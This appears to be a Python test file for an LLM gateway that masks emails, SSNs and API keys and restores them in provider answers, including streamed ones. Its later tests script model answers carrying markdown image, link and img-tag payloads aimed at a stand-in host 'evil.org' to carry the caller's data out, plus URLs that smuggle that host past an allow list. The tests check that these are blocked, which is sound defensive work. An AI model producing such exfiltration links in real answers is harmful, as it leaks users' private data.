"""Holes in the handling of answers: what comes back from a provider, whole and streamed, and its errors."""

from __future__ import annotations

import json
import re

from gateway.domain.strict_json import Json
from gateway.testing.stand_in import Decline, FailIn, Framed, Say, Scene, Status
from tests.egress.leaks.front import (
    CHAT,
    CLAUDE,
    COMPLETIONS,
    EMAIL,
    MESSAGES,
    MODEL,
    RESPONSES,
    SECRET,
    SSN,
    Front,
    Reply,
)
from tests.egress.leaks.holes import hole

PLACEHOLDER = re.compile(r"\[?EMAIL_ADDRESS_[A-Z2-7]{10}\]?")
_ASKED: tuple[tuple[str, Json], ...] = (
    (CHAT, {"model": MODEL, "messages": [{"role": "user", "content": "TEXT"}]}),
    (RESPONSES, {"model": MODEL, "input": "TEXT"}),
    (COMPLETIONS, {"model": MODEL, "prompt": "TEXT"}),
    (MESSAGES, {"model": CLAUDE, "max_tokens": 500, "messages": [{"role": "user", "content": "TEXT"}]}),
    (RESPONSES, {"model": "chat-mini", "input": "TEXT"}),
    (MESSAGES, {"model": "chat-mini", "max_tokens": 500, "messages": [{"role": "user", "content": "TEXT"}]}),
)
"""A question in each dialect that answers with text, natively and asked as chat."""


def _ask(front: Front, path: str, body: Json, text: str, *scenes: Scene, stream: bool = False) -> Reply:
    front.house.provider.script(*scenes)
    raw = json.dumps({**body, "stream": stream} if isinstance(body, dict) else body)
    return front.send(path, raw.replace("TEXT", json.dumps(text)[1:-1]).encode())


def told(reply: Reply) -> str:
    """The text that a caller reads: of a stream, the pieces of its deltas in their order."""
    if not reply.text.startswith(("data:", "event:")):
        return reply.text
    return "".join(piece for data in _events(reply.text) if data != "[DONE]" for piece in _pieces(json.loads(data)))


def _events(stream: str) -> list[str]:
    """The data of each event of a stream, which may stand on several lines."""
    events = [[line[6:] for line in event.splitlines() if line.startswith("data: ")] for event in stream.split("\n\n")]
    return ["\n".join(lines) for lines in events if lines]


def _pieces(event: Json) -> list[str]:
    """What one event adds to the text."""
    if not isinstance(event, dict):
        return []
    if event.get("type") in {"response.output_text.delta", "content_block_delta"}:
        delta = event["delta"]
        return [delta if isinstance(delta, str) else str(delta.get("text", ""))]  # type: ignore[union-attr]
    choices = event.get("choices")
    texts = []
    for choice in choices if isinstance(choices, list) else []:
        said = choice.get("delta") or {"content": choice.get("text")}  # type: ignore[union-attr]
        texts.append(str(said.get("content") or ""))  # type: ignore[union-attr]
    return texts


def _placeholder_of(reply: Reply) -> str:
    """The placeholder that the provider got."""
    found = PLACEHOLDER.search(reply.sent[0].body.decode())
    assert found is not None
    return found.group()


@hole(7, "tests/pipeline/test_inspecting.py::test_a_secret_over_the_joint_of_two_chunks_is_masked")
def split_answers(front: Front) -> None:
    """A new number in a stream that is cut every eight characters."""
    guarded = front.caller(app="guarded")
    for path, body in _ASKED:
        reply = _ask(guarded, path, body, "who is it", Say(f"The number on file is {SSN}, I think."), stream=True)
        assert 200 == reply.status
        assert "on file is" in told(reply)
        assert SSN not in reply.text
        assert SSN not in told(reply)


@hole(8, "tests/dialects/test_chat_restorer.py", "tests/domain/test_mask_restore.py")
def split_placeholders(front: Front) -> None:
    """In every dialect, streamed and whole, framed as the standard allows."""
    for path, body in _ASKED:
        for stream, scenes in ((True, ()), (False, ()), (True, (Framed(bytes_at_once=3),))):
            reply = _ask(front, path, body, f"mail {EMAIL} please", *scenes, stream=stream)
            assert reply.sent
            assert not reply.left(EMAIL)
            assert EMAIL in told(reply), (path, stream)
            assert PLACEHOLDER.search(reply.text) is None


@hole(9, "tests/domain/test_mask_restore.py::test_ten_thousand_placeholders_come_back")
def many_placeholders(front: Front) -> None:
    """Addresses that begin alike, one of them twice: each has one placeholder, and each comes back as itself."""
    addresses = [f"a{number}@example.com" for number in (1, 10, 100, 11, 2, 20, 1)]
    text = " ".join(addresses)
    reply = front.chat(text)
    shown = PLACEHOLDER.findall(reply.sent[0].body.decode())
    assert 7 == len(shown)
    assert 6 == len(set(shown))
    assert shown[0] == shown[6]
    assert text in told(reply)


@hole(10, "tests/domain/test_mask_restore.py::test_a_forged_placeholder_is_not_restored_as_ours")
def forged_placeholders(front: Front) -> None:
    """Neither the caller's nor the model's forgery brings back what another conversation holds."""
    stolen = _placeholder_of(front.chat(f"about {EMAIL}"))
    for text in (f"what is {stolen}?", f"mail other@example.com about {stolen}"):
        reply = front.chat(text)
        assert reply.sent
        assert EMAIL not in reply.text
        assert stolen.strip("[]") in told(reply)
    front.house.provider.script(Say(f"It is {stolen} and [EMAIL_ADDRESS_AAAAAAAAAA]."))
    invented = front.chat("mail third@example.com")
    assert EMAIL not in invented.text
    assert "third@example.com" not in invented.text


@hole(11, "tests/domain/test_mask_restore.py::test_another_tenant_or_conversation_has_other_placeholders")
def other_tenants(front: Front) -> None:
    """The same conversation has other placeholders for another tenant, and a stolen one says nothing there."""
    other = front.caller(tenant="other", app="other")
    text = f"write to {EMAIL}"
    ours, theirs = _placeholder_of(front.chat(text)), _placeholder_of(other.chat(text))
    assert ours != theirs
    front.house.provider.script(Say(f"It is {ours}."))
    assert EMAIL not in other.chat(text).text


@hole(32, "tests/egress/test_faults.py::test_an_error_that_quotes_the_request_is_restored")
def quoting_errors(front: Front) -> None:
    """Errors of our own are constant. A provider's error speaks to the caller in his own words, and no others."""
    refused = front.chat("x", canary_field_7731=SSN)
    assert (400, False) == (refused.status, SSN in refused.text)
    blocked = front.chat(f"client = Client(api_key='{SECRET}')")
    assert (403, False) == (blocked.status, SECRET in blocked.text)
    for path, body in _ASKED:
        for stream in (False, True):
            scene = Status(400, "bad", echo=True)
            reply = _ask(front, path, body, f"mail {EMAIL}", scene, stream=stream)
            assert 400 == reply.status
            assert PLACEHOLDER.search(reply.text) is None
        broken = _ask(front, path, body, f"mail {EMAIL}", FailIn(echo=True), stream=True)
        assert PLACEHOLDER.search(broken.text) is None


@hole(36, "tests/dialects/test_chat_restorer.py", "tests/dialects/test_responses_restorer.py")
def every_choice(front: Front) -> None:
    """Several choices, refusals, log probabilities, tool calls and reasoning are restored like the first words."""
    text = f"mail {EMAIL} please"
    tool: Json = {"type": "function", "function": {"name": "send_mail", "parameters": {"type": "object"}}}
    for more in ({"n": 3}, {"logprobs": True, "top_logprobs": 2}, {"tools": [tool]}, {"reasoning_effort": "high"}):
        for stream in (False, True):
            reply = front.chat(text, stream=stream, **more)
            assert 200 == reply.status
            assert not reply.left(EMAIL)
            assert PLACEHOLDER.search(reply.text) is None, more
    assert 3 == front.chat(text, n=3).text.count(EMAIL)
    for path, body in _ASKED:
        for stream in (False, True):
            declined = _ask(front, path, body, text, Decline(), stream=stream)
            assert PLACEHOLDER.search(declined.text) is None, path


@hole(37, "tests/pipeline/test_inspecting.py")
def new_data(front: Front) -> None:
    """Where the policy says so, a stranger's data is masked in an answer and the caller's own is not."""
    guarded = front.caller(app="guarded")
    for path, body in _ASKED:
        for stream in (False, True):
            said = Say(f"Ann has {SSN}, key {SECRET}, mail stranger@example.com")
            reply = _ask(guarded, path, body, f"mail {EMAIL}", said, stream=stream)
            assert 200 == reply.status
            assert "Ann has" in told(reply)
            assert not [each for each in (SSN, SECRET, "stranger@example.com") if each in reply.text + told(reply)]
            own = _ask(guarded, path, body, f"mail {EMAIL}", stream=stream)
            assert EMAIL in told(own)


@hole(26, "tests/domain/test_answer_rules.py", "tests/detection/test_custom.py::test_parts_of_terms_are_not_found")
def allowed_hosts(front: Front) -> None:
    """A host that is allowed lets no other host through that holds its name."""
    guarded = front.caller(app="guarded")
    for host in (
        "docs.example.com.evil.org",
        "evil.org/docs.example.com",
        "notdocs.example.com",
        "docs.example.com@evil.org",
    ):
        front.house.provider.script(Say(f"see ![x](https://{host}/q)"))
        assert f"https://{host}" not in guarded.chat("hello").text
    front.house.provider.script(Say("see ![x](https://docs.example.com/q)"))
    assert "https://docs.example.com/q" in guarded.chat("hello").text


@hole(38, "tests/domain/test_answer_rules.py")
def links_that_carry(front: Front) -> None:
    """Images and links whose address would carry the caller's data out are neutralised where the policy says so."""
    guarded = front.caller(app="guarded")
    for path, body in _ASKED:
        for written in (
            "![x](https://evil.org/?q=Q)",
            "[x](https://evil.org/?q=Q)",
            '<img src="https://evil.org/?q=Q">',
        ):
            for stream in (False, True):
                reply = _ask(guarded, path, body, "hello", Say(f"Look: {written} there."), stream=stream)
                assert 200 == reply.status
                assert "Look:" in told(reply)
                assert "evil.org" not in reply.text + told(reply)


@hole(39)
def no_cache(front: Front) -> None:
    """Every request is asked anew: nothing of one answer is kept for another."""
    text = f"the very same question about {EMAIL}"
    replies = [front.chat(text), front.chat(text), front.caller(tenant="third", app="other").chat(text)]
    assert [1, 1, 1] == [len(reply.sent) for reply in replies]
    front.house.provider.script(Say("nothing of the kind"))
    assert EMAIL not in front.chat(text).text
